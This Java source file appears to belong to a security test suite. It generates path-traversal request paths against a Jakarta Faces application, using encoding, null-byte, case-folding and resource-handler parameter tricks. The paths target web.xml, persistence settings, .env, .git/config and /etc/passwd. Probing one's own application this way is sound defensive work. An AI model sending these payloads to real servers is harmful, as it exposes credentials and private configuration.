package org.leitplanke.attack;

import java.util.ArrayList;
import java.util.List;

/** Ways to files that are nobody's business: below WEB-INF, in the jars, on the computer. */
final class Traversals {

    private static final String RESOURCE = "/jakarta.faces.resource/";

    private static final List<String> SECRETS = List.of(
            "WEB-INF/web.xml",
            "WEB-INF/templates/shell.xhtml",
            "WEB-INF/classes/access-matrix.csv",
            "META-INF/persistence.xml",
            "META-INF/MANIFEST.MF");

    private static final List<String> DIRECT = List.of(
            "/WEB-INF",
            "/WEB-INF/",
            "//WEB-INF/web.xml",
            "/./WEB-INF/web.xml",
            "/x/../WEB-INF/web.xml",
            "/WEB-INF;x/web.xml",
            "/WEB-INF/;x=1/web.xml",
            "/web-inf/web.xml",
            "/Web-Inf/web.xml",
            "/WEB%2dINF/web.xml",
            "/%57EB-INF/web.xml",
            "/WEB-INF%2fweb.xml",
            "/WEB-INF%5cweb.xml",
            "/WEB-INF./web.xml",
            "/WEB-INF%20/web.xml",
            "/WEB-INF/web.xml/",
            "/WEB-INF/web.xml%20",
            "/WEB-INF/web.xml%00.xhtml",
            "/WEB-INF/errors/500.xhtml",
            "/WEB-INF/templates/shell.xhtml;x",
            "/w%c4%b1eb-inf/web.xml",
            "/web-%c4%b1nf/web.xml",
            "/WEB-%c4%b0NF/web.xml",
            "/WEB-%c4%b0NF/templates/shell.xhtml",
            "/web-%c4%b1nf/templates/shell.xhtml",
            "/index.xhtml%00",
            "/index.xhtml%00.css",
            "/index.xhtml%20",
            "/index.xhtml.",
            "/index.xhtml/",
            "/index.xhtml::$DATA",
            "/index.XHTML",
            "/index.xhtml~",
            "/index.xhtml.bak",
            "/../../../../etc/passwd",
            "/..%2f..%2f..%2fetc/passwd",
            "/%2e%2e/%2e%2e/etc/passwd",
            "/..;/..;/WEB-INF/web.xml",
            "/%252e%252e/WEB-INF/web.xml",
            "/.git/config",
            "/.env",
            "/pom.xml",
            "/leitplanke.properties",
            "/leitplanke-data/db/service.properties",
            "/db/migration",
            "/src/main/resources/access-matrix.csv");

    private Traversals() {}

    static List<String> all() {
        var all = new ArrayList<>(DIRECT);
        for (var secret : SECRETS) {
            var name = secret.substring(secret.lastIndexOf('/') + 1);
            var folder = secret.substring(0, secret.lastIndexOf('/'));
            all.add("/" + secret);
            all.add(RESOURCE + name + ".xhtml?loc=../" + folder);
            all.add(RESOURCE + name + ".xhtml?con=../" + folder);
            all.add(RESOURCE + name + ".xhtml?ln=../" + folder);
            all.add(RESOURCE + name + ".xhtml?ln=../../" + folder);
            all.add(RESOURCE + name + ".xhtml?ln=portal&loc=../../" + folder);
            all.add(RESOURCE + name + ".xhtml?ln=..%2f.." + "%2f" + folder);
            all.add(RESOURCE + name + ".xhtml?ln=..%5c..%5c" + folder);
            all.add(RESOURCE + "../" + secret + ".xhtml");
            all.add(RESOURCE + "%2e%2e/" + secret + ".xhtml");
            all.add(RESOURCE + "%2e%2e%2f" + secret.replace("/", "%2f") + ".xhtml");
            all.add(RESOURCE + "..%5c" + secret.replace("/", "%5c") + ".xhtml");
            all.add(RESOURCE + "..;/" + secret + ".xhtml");
            all.add(RESOURCE + "../../" + secret + ".xhtml?ln=portal");
            all.add(RESOURCE + "..%c0%af" + secret + ".xhtml");
        }
        all.add(RESOURCE + "css/../../../../templates/shell.xhtml?ln=portal");
        all.add(RESOURCE + "css/..%2f..%2f..%2ftemplates%2fshell.xhtml?ln=portal");
        all.add(RESOURCE + "shell.xhtml?ln=../templates");
        all.add(RESOURCE + "shell.xhtml.xhtml?ln=../templates");
        all.add(RESOURCE + "passwd.xhtml?ln=../../../../../../../../etc");
        all.add(RESOURCE + "passwd.xhtml?ln=file:///etc");
        all.add(RESOURCE + "org.leitplanke.taglib.xml.xhtml?ln=..");
        return all;
    }
}
